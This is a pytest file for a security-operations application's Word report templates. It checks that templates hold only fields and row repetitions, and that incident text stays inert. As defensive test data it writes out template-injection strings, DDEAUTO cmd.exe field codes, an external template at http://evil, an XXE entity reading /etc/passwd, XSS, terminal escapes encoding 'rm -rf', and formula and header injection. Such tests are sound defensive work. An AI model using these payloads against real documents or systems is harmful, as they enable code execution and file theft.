"""Templates hold fields and repeated rows and nothing else; what stands in a field stays text."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scripts.make_report_templates import FOLDER, made
from soc.application import reports
from soc.application.app import App
from soc.errors import ConfigError
from soc.reports.kinds import FIELDS, HEAD, LISTS, kinds
from soc.reports.template import check, fill, settled
from tests.reports.conftest import Opened, application

NAMES = sorted({f"{kind.template}.docx" for kind in kinds()})
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def with_text(text: str) -> bytes:
    """A template with one paragraph."""
    document = Document()
    document.add_paragraph("đầu")
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(name: str, change: Callable[[bytes], bytes], base: bytes | None = None) -> bytes:
    """A template with one part changed or added."""
    with zipfile.ZipFile(io.BytesIO(base or with_text("{{summary}}"))) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    parts[name] = change(parts.get(name, b""))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for one, content in parts.items():
            package.writestr(one, content)
    return out.getvalue()


def values(**given_values: Any) -> dict[str, Any]:
    """Values for every name that a template may hold."""
    return {**dict.fromkeys((*FIELDS, *HEAD), ""), **{name: [] for name in LISTS}, "copies": [], **given_values}


def text_of(data: bytes) -> str:
    """The text of a document as a reader sees it."""
    return "\n".join(paragraph.text for paragraph in Document(io.BytesIO(data)).paragraphs)


@pytest.mark.parametrize("name", NAMES)
def test_shipped_templates_are_those_of_the_script_and_without_fault(name: str) -> None:
    """The same bytes again, and every field of the kind stands in one."""
    kind = next(one for one in kinds() if f"{one.template}.docx" == name)
    data = (FOLDER / name).read_bytes()
    assert data == made(kind)
    assert check(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("word/document.xml").decode()
    for section in kind.sections:
        for field in section.fields:
            assert "{{" + field + "}}" in xml


@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{summary.__class__}}",
        "{{summary()}}",
        "{{summary|upper}}",
        "{{summary ~ title}}",
        "{{summary[0]}}",
        "{{ 7*7 }}",
        "{{config}}",
        "{{cycler}}",
        "{{sumary}}",
        "{% if summary %}x{% endif %}",
        "{% set x = 1 %}",
        "{% include 'x' %}",
        "{% import 'os' as os %}",
        "{% for row in timeline %}{{row.at}}{% endfor %}",
        "{%tr for row in timeline.items() %}",
        "{%p for row in timeline if row %}",
        "{%p for row in range(10) %}",
        "{{r summary }}",
        "{%colspan summary%}",
        "{%vm%}",
        "{%hm%}",
        "{# comment #}",
        "{{summary",
        "summary}}",
        "{%",
    ],
)
def test_what_calls_reaches_or_decides_is_refused_with_name_and_place(tag: str) -> None:
    """The tag is quoted, and the paragraph that it stands in."""
    faults = check(with_text(tag))
    assert faults
    assert faults[0].what
    assert faults[0].place.startswith("word/document.xml")
    assert "paragraph 2" in faults[0].place
    with pytest.raises(ConfigError, match=r"mẫu\.docx: word/document\.xml, paragraph 2"):
        fill(with_text(tag), values(), name="mẫu.docx")


@pytest.mark.parametrize(
    ("text", "column"), [("{%p for row in timeline %}", "what"), ("{%p for row in timeline %}", "__class__"), ("{%p for row in timeline %}", "items")]
)
def test_rows_give_their_columns_only(text: str, column: str) -> None:
    """Methods and attributes of what a row is made of are no columns."""
    document = Document()
    for line in (text, "{{row." + column + "}}", "{%p endfor %}"):
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    if column == "what":
        found = fill(out.getvalue(), values(timeline=[{"at": "1", "what": "một", "who": ""}, {"at": "2", "what": "hai", "who": ""}]))
        assert text_of(found) == "một\nhai"
    else:
        assert check(out.getvalue())


def test_repetitions_must_begin_and_end() -> None:
    """One that is left open, or ended twice, is refused before anything is filled."""
    for lines in (("{%p for row in timeline %}", "{{row.at}}"), ("{%p endfor %}",)):
        document = Document()
        for line in lines:
            document.add_paragraph(line)
        out = io.BytesIO()
        document.save(out)
        assert check(out.getvalue())


def field_code(code: str) -> bytes:
    """A template with a field code."""
    xml = f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:sectPr'
    return with_part("word/document.xml", lambda data: data.replace(b"<w:sectPr", xml.encode(), 1))


def test_macros_objects_outside_references_and_field_codes_are_refused() -> None:
    """A file that does more than hold text is no template; page numbers are."""
    rels = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    refused = {
        "macros": with_part("word/vbaProject.bin", lambda _: b"x"),
        "embedded": with_part("word/embeddings/oleObject1.bin", lambda _: b"x"),
        "outside": with_part("word/_rels/document.xml.rels", lambda data: data.replace(b"</Relationships>", rels + b"</Relationships>")),
        "dde": field_code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        "include": field_code("INCLUDEPICTURE http://evil/x"),
        "entities": with_part(
            "word/document.xml", lambda data: data.replace(b"<w:document", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document', 1)
        ),
        "properties": with_part(
            "docProps/core.xml", lambda data: data.replace(b"</cp:coreProperties>", b"<dc:title>{{summary}}</dc:title></cp:coreProperties>")
        ),
        "attribute": with_part("word/document.xml", lambda data: data.replace(b"<w:body>", b'<w:body><w:bookmarkStart w:id="1" w:name="{{ 1+1 }}"/>', 1)),
    }
    for name, data in refused.items():
        assert check(data), name
    assert check(field_code(" PAGE ")) == []


def test_what_is_no_docx_is_told(tmp_path: Path) -> None:
    """Garbage, other archives, and archives that unpack to far more than they hold."""
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"\x00" * 80_000_000)
    for data in (b"", b"PK\x03\x04", b"x" * 1000, bomb.getvalue(), b"\x00" * 9_000_000):
        assert [fault.why for fault in check(data)] == ["this is no DOCX file"]
    with pytest.raises(ConfigError):
        reports.templates(tmp_path)


HOSTILE = [
    "{{ 7*7 }} {% for x in y %} {# c #} {{''.__class__}}",
    "</w:t></w:r></w:p><w:p><w:r><w:fldSimple w:instr='DDE'/>",
    "<script>alert(1)</script> & &amp; <!--",
    "\x1b]52;c;cm0gLXJm\x07 \x00 \x08 \r\n a\tb\fc\ad\vé",
    "\u202egpj.exe\u200b \ufeff \ufffe \uffff \U000e0041",
    '=HYPERLINK("http://evil") @SUM(1) http://evil.example/ {_{x}_} {_%x%_}',
    '{ DDEAUTO cmd "/c calc" } PAGE \\* MERGEFORMAT',
    "Bcc: a@b.vn\r\nX: y",
    "\ud800",
]


def shown_lines(text: str) -> int:
    """How many lines a text has."""
    return len(text.replace("\r\n", "\n").replace("\r", "\n").split("\n"))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_stays_text(text: str) -> None:
    """No element comes into being but paragraphs for lines; no control character is left; nothing is evaluated."""
    template = with_text("A {{summary}} Z")
    plain = fill(template, values(summary="x"))
    found = fill(template, values(summary=text))
    names = [element.tag for element in Document(io.BytesIO(plain)).element.iter()]
    got = [element.tag for element in Document(io.BytesIO(found)).element.iter()]
    # A line is a paragraph of its own: nothing else is new.
    assert set(got) == set(names)
    assert got.count(f"{W}p") - names.count(f"{W}p") == shown_lines(text) - 1
    shown = text_of(found)
    assert shown.startswith("đầu\nA ")
    assert shown.endswith(" Z")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\ufeff\ufffe\uffff]", shown)
    assert "49" not in shown


@given(st.text(max_size=300))
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_any_text_can_be_filled_in(text: str) -> None:
    """Whatever it holds, a document comes out that can be read again, with the same structure."""
    found = fill(with_text("{{summary}}"), values(summary=text))
    assert not [
        element for element in Document(io.BytesIO(found)).element.iter() if element.tag in (f"{W}fldSimple", f"{W}instrText", f"{W}hyperlink", f"{W}tab")
    ]


def test_hostile_fields_of_an_incident_reach_no_document_as_more_than_text(app: App, opened: Opened) -> None:
    """Title and description as an attacker would write them, through the whole way."""
    incident = opened(title="{{7*7}} <w:p/> \x1b[31m", summary="\n".join(text for text in HOSTILE if "\ud800" not in text and "\x00" not in text))
    for kind in ("first-notice", "report-72h", "plan"):
        reports.draft(app, incident, kind)
        for form in ("docx", "txt"):
            data = reports.document(app, incident, kind, form)[0]
            if form == "txt":
                assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", data)
                assert b"{{7*7}} <w:p/> \\x1b[31m" in data
            else:
                assert b"evil" not in b"".join(part for name, part in _parts(data) if name.endswith(".rels"))
                assert Document(io.BytesIO(data)).tables


def _parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [(name, package.read(name)) for name in package.namelist()]


def test_the_office_s_own_template_is_used_and_a_wrong_one_is_refused(tmp_path: Path) -> None:
    """A file of the same name in the folder of the settings takes the place of ours; the others stay ours."""
    folder = tmp_path / "mẫu"
    folder.mkdir()
    (folder / "report-72h.docx").write_bytes(with_text("Mẫu riêng của Sở: {{title}}"))
    app = application(tmp_path / "data")
    app.settings = app.settings.model_copy(update={"reports": app.settings.reports.model_copy(update={"templates": folder})})
    from soc.application import incidents

    incident = incidents.open_incident(app, {"title": "Tên", "agencies": ["so-yt"]}).id
    reports.draft(app, incident, "report-72h")
    assert text_of(reports.document(app, incident, "r1", "docx")[0]) == "đầu\nMẫu riêng của Sở: Tên"
    (folder / "report-72h.docx").write_bytes(with_text("{{title.__class__}}"))
    with pytest.raises(ConfigError, match=r"paragraph 2: \{\{title"):
        reports.document(app, incident, "r1", "docx")
    assert reports.document(app, incident, "r1", "txt")[0]
    assert settled((folder / "report-72h.docx").read_bytes()) == settled(settled((folder / "report-72h.docx").read_bytes()))
